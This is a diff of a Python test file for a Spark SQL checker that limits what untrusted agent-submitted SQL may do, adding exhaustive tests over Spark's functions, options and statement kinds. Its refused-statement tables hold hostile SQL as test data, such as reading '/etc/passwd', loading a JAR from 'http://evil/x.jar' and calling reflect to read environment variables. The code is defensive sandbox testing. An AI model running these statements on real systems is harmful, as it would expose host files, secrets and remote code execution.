@@ -1,8 +1,15 @@
 """Untrusted SQL: what comes through an agent can read tables, and reaches nothing of the worker's machine."""
 
 import os
+import re
+import zipfile
+from contextlib import suppress
+from pathlib import Path
+from typing import Any
 
+import pyspark
 import pytest
+from py4j.protocol import Py4JJavaError  # type: ignore[import-untyped]
 from pyspark.errors import AnalysisException, ParseException
 from pyspark.sql import SparkSession
 
@@ -10,12 +17,8 @@ from streamhouse.errors import StatementError, StreamhouseError
 from streamhouse.spark.connectors import ReadContext
 from streamhouse.spark.query.catalog import Catalog
 from streamhouse.spark.query.resolver import analyze, resolve
-from streamhouse.spark.query.untrusted_sql import (
-    FUNCTION_GROUPS,
-    FUNCTIONS,
-    TABLE_FUNCTIONS,
-    check_untrusted,
-)
+from streamhouse.spark.query.untrusted_functions import FUNCTIONS, OPTIONS, REFUSED, TABLE_FUNCTIONS
+from streamhouse.spark.query.untrusted_sql import EXPRESSIONS, check_untrusted
 from streamhouse.spark.worker.query_executor import QueryCaller, QueryExecutor, QueryRequest, SqlLimits
 from tests.spark.query.fakes import FakeBackend, topic
 
@@ -71,6 +74,10 @@ JSON_SCHEMA = (
         "SELECT schema_of_xml('<p><a>1</a></p>'), to_xml(named_struct('a', 1))",
         "SELECT builtin.abs(-1)",
         "SELECT user FROM a",
+        "SELECT to_json(x, map('pretty', 'true')), schema_of_json('{}', map('allowComments', 'true')) FROM a",
+        "SELECT * FROM UNNEST(array(1)), JSON_TABLE('[1]', '$[*]' COLUMNS (a INT PATH '$'))",
+        "SELECT trim(BOTH 'x' FROM y), overlay(a PLACING 'b' FROM 1), x IS DISTINCT FROM y, x::int, v:a.b[0] FROM t",
+        "SELECT * EXCEPT (a), `(a|b)?+.+`, first(x IGNORE NULLS), timestampadd(HOUR, 1, at) FROM t GROUP BY ALL",
         "SELECT x FROM a QUALIFY row_number() OVER (PARTITION BY x ORDER BY y) = 1",
         "SELECT sum(x) OVER w FROM a WINDOW w AS (PARTITION BY upper(y) ORDER BY x)",
         "SELECT * EXCEPT (x) FROM a LIMIT ALL",
@@ -260,6 +267,15 @@ def test_queries_may_be_asked(spark: SparkSession, text: str) -> None:
         f"SELECT from_json(v, '{JSON_SCHEMA}' COLLATE UTF8_LCASE) FROM a",
         f"SELECT system.builtin.from_json(v, '{JSON_SCHEMA}') FROM a",
         "SELECT from_json(v, (SELECT 'a INT')) FROM a",
+        "SELECT * FROM orders WITH ('path' = '/etc/passwd')",
+        "SELECT * FROM STREAM orders WITH ('agents' = 'evil:1')",
+        "SELECT * FROM a LATERAL VIEW default.explode(x) t AS y",
+        "DESCRIBE FUNCTION default.f",
+        "SELECT * FROM orders CHANGES FROM VERSION 1",
+        "SELECT :x, ?",
+        "SELECT from_json(v, 'a INT', map('no_such_option', 'x')) FROM a",
+        "SELECT to_json(x, map('mode', concat('FAIL', 'FAST'))) FROM a",
+        "SELECT no_such_function(reflect('java.lang.System', 'getenv'))",
         f"SELECT try_variant_get(parse_json(v), '$', '{JSON_SCHEMA}') FROM a",
     ],
 )
@@ -282,26 +298,209 @@ def test_what_is_no_sql_is_sparks_to_complain_of(spark: SparkSession, text: str)
 
 
 def test_every_function_of_this_spark_was_decided_on(spark: SparkSession) -> None:
-    """A new release may bring functions in groups that nobody has looked at."""
-    jvm = spark._jvm
-    assert jvm is not None
-    analysis = jvm.org.apache.spark.sql.catalyst.analysis
-    registry, tables = analysis.FunctionRegistry.builtin(), analysis.TableFunctionRegistry.builtin()
-    names = registry.listFunction()
-    groups: dict[str, set[str]] = {}
-    for index in range(names.size()):
-        group = registry.lookupFunction(names.apply(index)).get().getGroup()
-        groups.setdefault(group, set()).add(names.apply(index).funcName())
-    assert groups.keys() - FUNCTION_GROUPS == {"misc_funcs", "protobuf_funcs"}
-    assert groups["misc_funcs"] - FUNCTIONS == {
-        *("reflect", "java_method", "try_reflect", "user", "current_user", "session_user", "spark_partition_id"),
-        *("current_catalog", "current_database", "current_schema", "current_path", "input_file_name"),
-        *("input_file_block_start", "input_file_block_length"),
+    """A new release may bring functions that nobody has looked at; until then they are refused."""
+    state = spark._jsparkSession.sessionState()
+    functions, tables = (
+        {listed.apply(number).funcName() for number in range(listed.size())}
+        for listed in (state.functionRegistry().listFunction(), state.tableFunctionRegistry().listFunction())
+    )
+    shown = {row[0] for row in spark.sql("SHOW SYSTEM FUNCTIONS").collect()}
+    assert shown - functions - tables == {"!=", "<>", "||", "case"}
+    assert not FUNCTIONS & REFUSED.keys()
+    assert functions | tables == FUNCTIONS | TABLE_FUNCTIONS | REFUSED.keys()
+
+
+def test_a_function_that_somebody_registered_is_refused(spark: SparkSession) -> None:
+    spark.udf.register("mine", lambda: "x")
+    try:
+        with pytest.raises(StatementError, match="mine can't be used through agents: it isn't known"):
+            check_untrusted(spark, "SELECT mine()")
+    finally:
+        spark.sql("DROP TEMPORARY FUNCTION mine")
+
+
+def test_every_option_of_texts_was_decided_on(spark: SparkSession) -> None:
+    jvm: Any = spark._jvm
+    names = ("catalyst.json.JSONOptions", "catalyst.csv.CSVOptions", "catalyst.xml.XmlOptions", "avro.AvroOptions")
+    options: set[str] = set()
+    for name in names:
+        kind = jvm.java.lang.Class.forName(f"org.apache.spark.sql.{name}$")
+        listed = kind.getField("MODULE$").get(None).getAllOptions().toSeq()
+        options |= {listed.apply(number).lower() for number in range(listed.size())}
+    assert options - OPTIONS == {
+        *("avroschemaurl", "rowvalidationxsdpath"),  # they name a file
+        *("avroschema", "uselegacyxmlparser", "useunsaferow"),  # other parsers than those that were looked at
+        *("codec", "columnpruning", "compression", "extension", "ignoreextension", "inputbuffersize"),  # of files
     }
-    result = tables.listFunction()
-    assert {result.apply(index).funcName() for index in range(result.size())} - TABLE_FUNCTIONS == {
-        "python_worker_logs"
+    assert options >= OPTIONS
+
+
+def test_every_expression_of_sparks_parser_was_decided_on(spark: SparkSession) -> None:
+    """Its classes are those that the parser's own code names."""
+    jvm: Any = spark._jvm
+    named: set[str] = set()
+    for jar in sorted((Path(pyspark.__file__).parent / "jars").glob("spark-*.jar")):
+        with zipfile.ZipFile(jar) as files:
+            for name in files.namelist():
+                if re.search(r"/sql/(catalyst/parser|execution)/(Spark)?(Sql)?(DataType)?AstBuilder.*\.class$", name):
+                    named.update(re.findall(r"org/apache/spark/sql/[\w/$]+", files.read(name).decode("latin-1")))
+    base = jvm.java.lang.Class.forName("org.apache.spark.sql.catalyst.expressions.Expression")
+    loader = jvm.java.lang.Thread.currentThread().getContextClassLoader()
+    classes = set()
+    for name in named:
+        if "/expressions/" in name or "/plans/logical/" in name or "/analysis/" in name:
+            with suppress(Py4JJavaError):
+                each = loader.loadClass(name.replace("/", "."))
+                if base.isAssignableFrom(each):
+                    classes.add(str(each.getSimpleName()).removesuffix("$"))
+    assert classes - EXPRESSIONS == {
+        *("BinaryExpression", "Expression", "UnaryExpression"),  # abstract ones
+        *("CurrentPath", "CurrentUser"),
+        *("ExpressionWithUnresolvedIdentifier", "NamedParameter", "PosParameter", "UnresolvedCursor"),
+        "FunctionTableSubqueryArgumentExpression",  # of table functions that users add
+        *("AlterColumnSpec", "CheckConstraint", "ColumnDefinition", "DefaultValueExpression", "ForeignKeyConstraint"),
+        *("GeneratedColumnExpression", "OptionList", "PrimaryKeyConstraint", "QualifiedColType", "UniqueConstraint"),
+        *("UnresolvedFieldName", "UnresolvedFieldPosition", "UnresolvedPartitionSpec", "UnresolvedTableSpec"),
+        *("Assignment", "DeleteAction", "InsertAction", "InsertReplaceCriteria", "InsertReplaceOn"),
+        *("InsertReplaceUsing", "InsertReplaceWhere", "InsertStarAction", "MergeAction", "UpdateAction"),
+        "UpdateStarAction",
     }
+    assert classes >= EXPRESSIONS
+
+
+ALLOWED = {
+    "DescribeFunction": "DESCRIBE FUNCTION abs",
+    "DescribeQuery": "DESCRIBE QUERY SELECT 1",
+    "DescribeRelation": "DESCRIBE orders",
+    "Explain": "EXPLAIN SELECT 1",
+    "ShowColumns": "SHOW COLUMNS IN orders",
+    "ShowFunctions": "SHOW FUNCTIONS",
+    "StatementDefault": "SELECT 1",
+}
+REFUSED_STATEMENTS = {
+    "AddTableColumns": "ALTER TABLE a ADD COLUMNS (x INT)",
+    "AddTableConstraint": "ALTER TABLE a ADD CONSTRAINT c CHECK (x > 0)",
+    "AddTablePartition": "ALTER TABLE a ADD PARTITION (x = 1) LOCATION '/etc'",
+    "AlterClusterBy": "ALTER TABLE a CLUSTER BY (x)",
+    "AlterTableAlterColumn": "ALTER TABLE a ALTER COLUMN x COMMENT 'y'",
+    "AlterTableCollation": "ALTER TABLE a DEFAULT COLLATION UTF8_LCASE",
+    "AlterViewQuery": "ALTER VIEW a AS SELECT 1",
+    "AlterViewSchemaBinding": "ALTER VIEW a WITH SCHEMA BINDING",
+    "Analyze": "ANALYZE TABLE a COMPUTE STATISTICS",
+    "AnalyzeTables": "ANALYZE TABLES COMPUTE STATISTICS",
+    "CacheTable": "CACHE TABLE x AS SELECT 1",
+    "Call": "CALL spark_catalog.system.rollback_to_snapshot('a', 1)",
+    "ClearCache": "CLEAR CACHE",
+    "CloseCursorStatement": "CLOSE c",
+    "CommentColumn": "COMMENT ON COLUMN a.x IS 'y'",
+    "CommentNamespace": "COMMENT ON DATABASE default IS 'y'",
+    "CommentTable": "COMMENT ON TABLE a IS 'y'",
+    "CreateFlowAutoCdc": "CREATE FLOW f AS AUTO CDC INTO a FROM b KEYS (x) SEQUENCE BY y",
+    "CreateFunction": "CREATE FUNCTION f AS 'X' USING JAR 'http://evil/x.jar'",
+    "CreateIndex": "CREATE INDEX i ON a (x)",
+    "CreateMetricView": "CREATE VIEW m WITH METRICS LANGUAGE YAML AS $$x$$",
+    "CreateNamespace": "CREATE DATABASE d LOCATION '/tmp/x'",
+    "CreatePipelineDataset": "CREATE MATERIALIZED VIEW v AS SELECT 1",
+    "CreatePipelineInsertIntoFlow": "CREATE FLOW f AS INSERT INTO a BY NAME SELECT 1",
+    "CreateTable": "CREATE TABLE t USING text OPTIONS (path '/etc/passwd')",
+    "CreateTableLike": "CREATE TABLE x LIKE orders LOCATION '/tmp/x'",
+    "CreateTempViewUsing": "CREATE TEMPORARY VIEW t USING text OPTIONS (path '/etc/passwd')",
+    "CreateUserDefinedFunction": "CREATE FUNCTION f() RETURNS INT RETURN 1",
+    "CreateVariable": "DECLARE VARIABLE x INT",
+    "CreateView": "CREATE VIEW v AS SELECT 1",
+    "DeclareCursorStatement": "DECLARE c CURSOR FOR SELECT 1",
+    "DescribeNamespace": "DESCRIBE DATABASE default",
+    "DescribeProcedure": "DESCRIBE PROCEDURE p",
+    "DmlStatement": "INSERT OVERWRITE DIRECTORY '/tmp/x' USING text SELECT 'x'",
+    "DropFunction": "DROP FUNCTION f",
+    "DropIndex": "DROP INDEX i ON a",
+    "DropNamespace": "DROP DATABASE default CASCADE",
+    "DropTable": "DROP TABLE a",
+    "DropTableColumns": "ALTER TABLE a DROP COLUMN x",
+    "DropTableConstraint": "ALTER TABLE a DROP CONSTRAINT c",
+    "DropTablePartitions": "ALTER TABLE a DROP PARTITION (x = 1)",
+    "DropVariable": "DROP TEMPORARY VARIABLE x",
+    "DropView": "DROP VIEW v",
+    "FailNativeCommand": "CREATE ROLE r",
+    "FailSetRole": "SET ROLE admin",
+    "FetchCursorStatement": "FETCH c INTO x",
+    "HiveChangeColumn": "ALTER TABLE a CHANGE COLUMN x y INT",
+    "HiveReplaceColumns": "ALTER TABLE a REPLACE COLUMNS (x INT)",
+    "LoadData": "LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE t",
+    "ManageResource": "ADD JAR '/tmp/x.jar'",
+    "OpenCursorStatement": "OPEN c",
+    "RecoverPartitions": "ALTER TABLE a RECOVER PARTITIONS",
+    "RefreshFunction": "REFRESH FUNCTION f",
+    "RefreshResource": "REFRESH '/etc'",
+    "RefreshTable": "REFRESH TABLE a",
+    "RenameTable": "ALTER TABLE a RENAME TO b",
+    "RenameTableColumn": "ALTER TABLE a RENAME COLUMN x TO y",
+    "RenameTablePartition": "ALTER TABLE a PARTITION (x = 1) RENAME TO PARTITION (x = 2)",
+    "RepairTable": "MSCK REPAIR TABLE a",
+    "ReplaceTable": "REPLACE TABLE t USING text OPTIONS (path '/etc/passwd')",
+    "ResetConfiguration": "RESET",
+    "ResetQuotedConfiguration": "RESET `spark.sql.ansi.enabled`",
+    "SetCatalog": "SET CATALOG c",
+    "SetConfiguration": "SET spark.sql.ansi.enabled = false",
+    "SetNamespaceCollation": "ALTER DATABASE default DEFAULT COLLATION UTF8_LCASE",
+    "SetNamespaceLocation": "ALTER DATABASE default SET LOCATION '/etc'",
+    "SetNamespaceProperties": "ALTER DATABASE default SET DBPROPERTIES (x = 'y')",
+    "SetPath": "SET PATH = a.b",
+    "SetQuotedConfiguration": "SET `spark.sql.ansi.enabled` = `false`",
+    "SetTableLocation": "ALTER TABLE a SET LOCATION '/etc'",
+    "SetTableProperties": "ALTER TABLE a SET TBLPROPERTIES (x = 'y')",
+    "SetTableSerDe": "ALTER TABLE a SET SERDE 'X'",
+    "SetTimeZone": "SET TIME ZONE 'UTC'",
+    "SetVariable": "SET VAR x = 1",
+    "ShowCatalogs": "SHOW CATALOGS",
+    "ShowCollations": "SHOW COLLATIONS",
+    "ShowCreateTable": "SHOW CREATE TABLE a",
+    "ShowCurrentNamespace": "SHOW CURRENT NAMESPACE",
+    "ShowNamespaces": "SHOW DATABASES",
+    "ShowPartitions": "SHOW PARTITIONS a",
+    "ShowProcedures": "SHOW PROCEDURES",
+    "ShowTableExtended": "SHOW TABLE EXTENDED LIKE '*'",
+    "ShowTables": "SHOW TABLES IN global_temp",
+    "ShowTblProperties": "SHOW TBLPROPERTIES a",
+    "ShowViews": "SHOW VIEWS",
+    "TruncateTable": "TRUNCATE TABLE a",
+    "UncacheTable": "UNCACHE TABLE a",
+    "UnsetNamespaceProperties": "ALTER DATABASE default UNSET DBPROPERTIES (x)",
+    "UnsetTableProperties": "ALTER TABLE a UNSET TBLPROPERTIES (x)",
+    "Use": "USE other",
+    "UseNamespace": "USE DATABASE other",
+    "VisitExecuteImmediate": "EXECUTE IMMEDIATE 'SELECT 1'",
+}
+
+
+def test_every_kind_of_statement_of_sparks_grammar_was_decided_on(spark: SparkSession) -> None:
+    """Each by an example, of which Spark's own parser says that it is one of this kind."""
+    jvm: Any = spark._jvm
+    antlr, parsers = jvm.org.antlr.v4.runtime, jvm.org.apache.spark.sql.catalyst.parser
+    prefix = "org.apache.spark.sql.catalyst.parser.SqlBaseParser"
+
+    def kind(text: str) -> str:
+        signs = parsers.UpperCaseCharStream(antlr.CharStreams.fromString(text))
+        tree = parsers.SqlBaseParser(antlr.CommonTokenStream(parsers.SqlBaseLexer(signs)))
+        return str(tree.singleStatement().getChild(0).getClass().getSimpleName())
+
+    bases = [jvm.java.lang.Class.forName(f"{prefix}${name}Context") for name in ("Statement", "SetResetStatement")]
+    kinds = {
+        str(each.getSimpleName()).removesuffix("Context")
+        for each in jvm.java.lang.Class.forName(prefix).getDeclaredClasses()
+        if any(base.isAssignableFrom(each) and base != each for base in bases)
+    }
+    assert kinds == ALLOWED.keys() | REFUSED_STATEMENTS.keys()
+    wrong = []
+    for name, text in (ALLOWED | REFUSED_STATEMENTS).items():
+        try:
+            check_untrusted(spark, text)
+            is_allowed = True
+        except (StatementError, ParseException):
+            is_allowed = False
+        if kind(text) != f"{name}Context" or is_allowed != (name in ALLOWED):
+            wrong.append((name, kind(text), is_allowed))
+    assert not wrong
 
 
 HIDDEN = "SELECT reflect('java.lang.System', 'getProperty', 'user.home')"
